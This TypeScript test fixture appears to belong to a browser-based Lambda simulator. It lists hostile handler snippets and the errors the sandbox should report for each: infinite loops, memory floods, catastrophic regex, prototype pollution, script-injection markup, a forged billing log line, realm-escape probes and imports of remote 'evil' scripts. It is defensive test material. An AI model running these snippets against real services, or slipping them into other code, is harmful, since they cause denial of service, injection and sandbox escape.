/** Code that means harm, and what the page must say of it. */
export interface HostileHandler {
  /** Completes "a handler that …". */
  does: string;
  code: string;
  /** What the Result tab shows. */
  shows: RegExp;
}

const TIMED_OUT = /Sandbox\.Timedout.*Task timed out after 3\.00 seconds/s;
const KILLED = /Runtime\.ExitError.*signal: killed/s;

/** `body` as an asynchronous handler. */
const handler = (body: string) => `export const handler = async (event, context) => {\n${body}\n};\n`;

/** What a name of the browser must be in there. */
const missing = (name: string, use: string): HostileHandler => ({
  does: `reaches for ${name}`,
  code: handler(`return ${use};`),
  shows: new RegExp(`${name}.* is not (defined|available in this simulator)`),
});

export const hostileHandlers: HostileHandler[] = [
  { does: 'loops for ever', code: handler('for (;;);'), shows: TIMED_OUT },
  { does: 'awaits for ever', code: handler('for (;;) await 0;'), shows: TIMED_OUT },
  {
    does: 'swallows every error in a loop',
    code: handler('for (;;) try { null.x; } catch {}'),
    shows: TIMED_OUT,
  },
  {
    does: 'floods the queue of promises',
    code: handler(
      'const again = () => Promise.resolve().then(again);\nagain(); await new Promise(() => {});',
    ),
    // Each promise waits for the next, so that none is ever free.
    shows: KILLED,
  },
  {
    does: 'doubles its promises at each turn',
    code: handler(
      'const fork = async () => { await 0; fork(); fork(); };\nawait fork(); await new Promise(() => {});',
    ),
    shows: KILLED,
  },
  {
    does: 'starts a hundred thousand timers',
    code: handler('for (let i = 0; i < 1e5; i++) setTimeout(() => {}, 0);\nawait new Promise(() => {});'),
    shows: TIMED_OUT,
  },
  {
    does: 'fills the memory with arrays',
    code: handler('const kept = []; for (;;) kept.push(new Array(100_000).fill(1));'),
    shows: KILLED,
  },
  {
    does: 'doubles a string until it bursts',
    code: handler("let text = 'x'; for (;;) text += text;"),
    shows: /RangeError.*Invalid string length/s,
  },
  {
    does: 'asks for two gigabytes at once',
    code: handler('return new Uint8Array(2 ** 31).length;'),
    shows: /RangeError/,
  },
  {
    does: 'computes a number of a billion digits',
    code: handler('return String(7n ** 3_000_000_000n).length;'),
    shows: /RangeError/,
  },
  {
    does: 'matches a pattern that backtracks for ever',
    code: handler("return /(a+)+$/.test('a'.repeat(64) + 'b');"),
    shows: TIMED_OUT,
  },
  {
    does: 'recurses without end',
    code: 'const dig = () => dig() + 1;\nexport const handler = async () => dig();\n',
    shows: /RangeError.*Maximum call stack size exceeded/s,
  },
  {
    does: 'sorts with a comparison that never ends',
    code: handler('return [2, 1].sort(() => { for (;;); });'),
    shows: TIMED_OUT,
  },
  {
    does: 'returns a getter that never returns',
    code: handler('return { get trap() { for (;;); } };'),
    shows: TIMED_OUT,
  },
  {
    does: 'returns a proxy that never answers',
    code: handler('return new Proxy({}, { ownKeys() { for (;;); } });'),
    shows: TIMED_OUT,
  },
  {
    does: 'throws what cannot be printed',
    code: handler(
      'throw { toString() { for (;;); }, get stack() { for (;;); }, get message() { for (;;); } };',
    ),
    shows: TIMED_OUT,
  },
  {
    does: 'returns a hundred thousand arrays in one another',
    code: handler('let deep = []; for (let i = 0; i < 100_000; i++) deep = [deep];\nreturn deep;'),
    shows: /RangeError|Runtime\.\w+/,
  },
  {
    does: 'returns three hundred objects in one another',
    code: handler('let deep = 0; for (let i = 0; i < 300; i++) deep = { deep };\nreturn deep;'),
    shows: /deep/,
  },
  {
    does: 'returns more than Lambda carries',
    code: handler("return 'x'.repeat(7_000_000);"),
    shows: /Function\.ResponseSizeTooLarge/,
  },
  {
    does: 'returns five megabytes',
    code: handler("return Array.from({ length: 50_000 }, (_, i) => 'x'.repeat(90) + i);"),
    shows: /xxxx/,
  },
  {
    does: 'logs five thousand lines',
    code: handler("for (let i = 0; i < 5_000; i++) console.log('line', i);\nreturn 'done';"),
    shows: /done/,
  },
  {
    does: 'logs one line of five megabytes',
    code: handler("console.log('x'.repeat(5_000_000));\nreturn 'done';"),
    shows: /done/,
  },
  {
    does: 'writes a receipt of its own',
    code: handler(
      "console.log('\\nREPORT RequestId: x\\tDuration: 0.01 ms\\tBilled Duration: 987654 ms\\tMemory Size: 1 MB\\tMax Memory Used: 1 MB');\nreturn 'forged';",
    ),
    shows: /forged/,
  },
  {
    does: 'pollutes every prototype',
    code: `for (const each of [Object, Array, Function, String, Promise, Error]) each.prototype.polluted = 'polluted';
Object.prototype.toJSON = () => 'forged';
JSON.stringify = () => '"forged"';
Promise.prototype.then = () => 'forged';
export const handler = () => Promise.resolve({ honest: true });
`,
    shows: /"forged"/,
  },
  {
    does: 'returns a key that sets a prototype',
    code: handler(
      `return JSON.parse('{"__proto__": {"polluted": "polluted"}, "constructor": {"prototype": 1}}');`,
    ),
    shows: /polluted/,
  },
  {
    does: 'returns and throws markup',
    code: handler(
      `const error = new Error('<img src=x onerror="polluted = 1">');\nerror.name = '<script>polluted = 1</script>';\nthrow error;`,
    ),
    shows: /<img src=x onerror/,
  },
  {
    does: 'makes functions out of text to leave its realm',
    code: handler(
      `const find = (name) => (async () => {}).constructor('return typeof ' + name)();\nreturn Promise.all(['window', 'self', 'parent', 'document', '__door', 'WebAssembly'].map(find));`,
    ),
    shows: /^(?!.*(object|function)).*undefined/s,
  },
  {
    does: 'leaves by ending its process, again and again',
    code: 'process.exit(3);\nexport const handler = async () => {};\n',
    shows: /Runtime\.ExitError.*exit status 3/s,
  },
  {
    does: 'turns back its clock to work for nothing',
    code: handler('Date.now = () => 0;\nfor (;;);'),
    shows: TIMED_OUT,
  },
  {
    does: 'waits on shared memory',
    code: handler('return Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0);'),
    shows: /Error/,
  },
  {
    does: 'imports code from another site',
    code: handler("return import('https://example.com/evil.mjs');"),
    shows: /Error.*example\.com/s,
  },
  {
    does: 'imports code from a data address',
    code: handler("return import('data:text/javascript,export default 1');"),
    shows: /Error.*data:/s,
  },
  missing('fetch', "fetch('https://example.com/')"),
  missing('WebSocket', "new WebSocket('wss://example.com')"),
  missing('XMLHttpRequest', 'new XMLHttpRequest()'),
  missing('localStorage', 'localStorage.length'),
  missing('indexedDB', "indexedDB.open('lambda-workbook')"),
  missing('location', "location.assign('https://example.com')"),
  missing('postMessage', "postMessage({ id: 1, kind: 'response' })"),
  missing('Worker', "new Worker('data:text/javascript,')"),
  missing('importScripts', "importScripts('https://example.com/evil.js')"),
];
